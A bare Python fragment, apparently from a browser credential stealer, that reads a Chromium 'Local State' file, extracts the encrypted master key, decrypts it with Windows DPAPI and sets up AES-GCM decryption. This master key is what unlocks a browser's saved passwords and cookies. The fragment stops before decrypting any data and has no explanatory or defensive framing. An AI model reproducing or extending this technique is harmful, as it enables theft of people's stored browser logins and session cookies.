state = json.load(open(root + "\\Local State"))
key = b64decode(state["os_crypt"]["encrypted_key"])[5:]
key = win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]
AES.new(key, AES.MODE_GCM)
